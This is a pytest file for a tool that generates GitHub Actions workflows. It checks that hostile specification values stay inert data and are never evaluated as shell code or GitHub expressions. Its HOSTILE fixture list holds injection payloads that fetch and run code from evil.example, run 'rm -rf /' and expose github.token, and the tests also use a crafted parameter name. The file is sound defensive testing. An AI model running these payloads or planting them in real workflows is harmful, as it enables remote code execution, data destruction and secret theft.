"""Hostile spec values never reach a shell as code or GitHub as an expression.

The model of GitHub used here: before a step runs, GitHub scans every string of
the workflow (except `on:`) for `${{`, evaluates up to the next `}}`, and
splices the result in as raw text. So the generated files are safe when every
`${{ ... }}` they contain is one the backend chose (a secret, an input, an
allow-listed context, or the literal-`${{` escape), no `run:` contains one at
all, and hostile text sits only in `env:` values (read by the shell as
"$NAME", i.e. as data) or in `on:` (never evaluated).
"""

from __future__ import annotations

import re

import pytest

from backends.test_github_projects import PRODUCTION, STAGING, churn, compile_project, judge, runs, workflows
from mlopsdsl.backends.github.shell import (Env, GhExpr, Input, Ref, Script, Secret, UnsafeWorkflow, both,
                                            check_workflow, condition, either, equals, spec_text)
from mlopsdsl.ir import Param

HOSTILE = [
    "$(curl evil.example | sh)",
    '"; rm -rf / #',
    "${{ github.event.issue.title }}",
    "`id`",
    "a\nb; curl evil.example",
    "'; exit 0; '",
]
# The deploy's model (`github.event.client_payload.model`) is sender text like an input: env only
# (test_github_act_model holds that, and the step refusing anything but a storage URI).
EXPRESSION_OK = re.compile(r"secrets\.[A-Za-z_][A-Za-z0-9_]*|inputs\.[a-z_][a-z0-9_]*|vars\.PROMETHEUS_URL|"
                           r"github\.(event_name|run_id|sha|ref|event\.client_payload\.model)|'\$\{\{'")
# A job's `if:`: comparisons of the event name or a dispatch's environment with plain literals, only.
CLAUSE_OK = re.compile(r"github\.(event_name|event\.client_payload\.environment) [=!]= '[A-Za-z0-9_.-]+'")


def expression_ok(body: str) -> bool:
    if EXPRESSION_OK.fullmatch(body):
        return True
    return all(CLAUSE_OK.fullmatch(part.strip(" ()")) for part in re.split(r"&&|\|\|", body))


def expressions(text: str) -> list[str]:
    """The bodies GitHub would evaluate, scanned as its parser does: `${{` up to the next `}}`."""
    bodies, i = [], 0
    while (start := text.find("${{", i)) >= 0:
        end = text.find("}}", start + 3)
        assert end >= 0, f"unterminated expression in {text[start:start + 60]!r}"
        bodies.append(text[start + 3:end].strip())
        i = end + 2
    return bodies


def strings(node, path=""):
    if isinstance(node, dict):
        for k, v in node.items():
            yield from strings(v, f"{path}.{k}")
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from strings(v, f"{path}[{i}]")
    elif isinstance(node, str):
        yield path, node


def hostile_project(value: str, command: str = "pytest -q"):
    base = churn()
    ci = base.ci.model_copy(update={"test": (command,), "install": (command,), "python": "3.11"})
    envs = tuple(e.model_copy(update={"url": f"https://x.example/{value}", "kfp_host": f"https://kfp/{value}"})
                 for e in (STAGING, PRODUCTION))
    params = (Param(name="note", type="str", default=value, description=value),
              Param(name="mode", type="str", default="a", choices=("a", value)))
    return base.model_copy(update={"ci": ci, "environments": envs, "spec_path": f"specs/{value}.yaml",
                                   "params": params})


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_spec_values_stay_data(tmp_path, value):
    backend, files = compile_project(hostile_project(value), tmp_path)
    for path, text in files.items():
        if path.endswith(".yml"):
            # every expression in the file is one the backend chose
            for body in expressions(text.split("\njobs:", 1)[1]):
                assert expression_ok(body), (path, body)
    for name, doc in workflows(files).items():
        for _, step in runs(doc):
            assert "${{" not in step["run"]
            assert value not in step["run"] or step["run"] == "pytest -q"
        for where, text in strings(doc["jobs"]):
            marker = value.replace("${{", "${{ '${{' }}")
            if value in text or marker in text:
                # hostile text only as an env value (data to the shell) or escaped in a URL/name
                assert ".env." in where or where.endswith((".url", ".name")), (name, where)
                if "${{" in value:
                    assert marker in text  # escaped: GitHub yields the literal text
    if "${{" in value:
        # a `${{` in workflow_dispatch text is refused (GitHub does not evaluate `on:`)
        assert any("parameter 'note'" in d.message for d in backend.diagnostics)


@pytest.mark.parametrize("value", ["$(curl evil.example | sh)", "`id`", "${{ github.event.issue.title }}"])
def test_hostile_output_passes_the_judges(tmp_path, value):
    compile_project(hostile_project(value), tmp_path)
    judge(tmp_path)


def test_hostile_param_name_is_refused_not_interpolated(tmp_path):
    project = churn(params=(Param(name="x }}${{ github.token", type="str", default="a"),
                            Param(name="ok", type="int", default=1)))
    backend, files = compile_project(project, tmp_path)
    assert any("parameter name" in d.message for d in backend.diagnostics)
    train = workflows(files)["train"]
    assert list(train["on"]["workflow_dispatch"]["inputs"]) == ["ok"]
    assert "github.token" not in files["github/workflows/churn-train.yml"]


def test_user_commands_run_as_written_but_never_with_expressions(tmp_path):
    project = churn()
    project = project.model_copy(update={"ci": project.ci.model_copy(update={
        "test": ("pytest -q $(cat args.txt)", "echo ${{ github.event.issue.title }}")})})
    backend, files = compile_project(project, tmp_path)
    ci_runs = [s["run"] for _, s in runs(workflows(files)["ci"])]
    assert "pytest -q $(cat args.txt)" in ci_runs  # the repository's own command, as written
    assert not any("github.event" in r for r in ci_runs)  # the expression one is refused...
    assert [d.code.code for d in backend.diagnostics] == ["MLD701"]  # ...loudly, so compile fails
    assert "test command 2" in backend.diagnostics[0].message


# --- the builder itself -----------------------------------------------------------------------
def test_script_accepts_only_constants_and_refs():
    env = Env()
    ref = env.bind("VALUE", "${{ github.event.issue.title }}")
    assert isinstance(ref, Ref) and str(ref) == '"${VALUE}"'
    assert env.values["VALUE"] == "${{ '${{' }} github.event.issue.title }}"
    assert Script().line("echo", ref).render() == 'echo "${VALUE}"\n'
    with pytest.raises(UnsafeWorkflow):
        Script().line("echo ${{ inputs.x }}")
    with pytest.raises(TypeError):
        Script().line("echo", GhExpr("${{ inputs.x }}"))  # an expression is not a constant
    with pytest.raises(ValueError):
        env.bind("GITHUB_PATH", "x")  # runner-owned variables cannot be overridden
    with pytest.raises(ValueError):
        env.bind("VALUE", "again")
    with pytest.raises(ValueError):
        Secret("A }} ${{ github.token")
    with pytest.raises(ValueError):
        Input("x-y")


def test_final_check_catches_what_a_builder_bug_would_let_through():
    ok = {"on": {"push": {}}, "jobs": {"a": {"steps": [{"env": {"T": Secret("T").expression()}, "run": "x\n"}]}}}
    check_workflow(ok)
    for bad in (
        {"jobs": {"a": {"steps": [{"run": "echo ${{ inputs.x }}"}]}}},
        {"jobs": {"a": {"steps": [{"run": GhExpr("echo ${{ inputs.x }}")}]}}},  # even our own, in run
        {"jobs": {"a": {"steps": [{"env": {"T": "${{ github.event.issue.title }}"}}]}}},  # not ours
        {"on": {"push": {"branches": [GhExpr("${{ inputs.x }}")]}}, "jobs": {}},  # `on:` is never evaluated
    ):
        with pytest.raises(UnsafeWorkflow):
            check_workflow(bad)
    assert spec_text("plain") == "plain" and not isinstance(spec_text("plain"), GhExpr)


def test_conditions_compare_only_allow_listed_contexts_with_plain_literals():
    when = condition(either(equals("github.event_name", "push"),
                            both(equals("github.event_name", "repository_dispatch"),
                                 equals("github.event.client_payload.environment", "prod-eu"))))
    assert when == ("${{ github.event_name == 'push' || (github.event_name == 'repository_dispatch' && "
                    "github.event.client_payload.environment == 'prod-eu') }}")
    assert expression_ok(when[4:-3])
    for path, literal in (("github.event.issue.title", "x"), ("github.event_name", "x' || true || '"),
                          ("github.event_name", "${{ github.token }}")):
        with pytest.raises(UnsafeWorkflow):
            equals(path, literal)
    with pytest.raises(TypeError):
        condition("github.event_name == 'push'")  # text is not a Clause
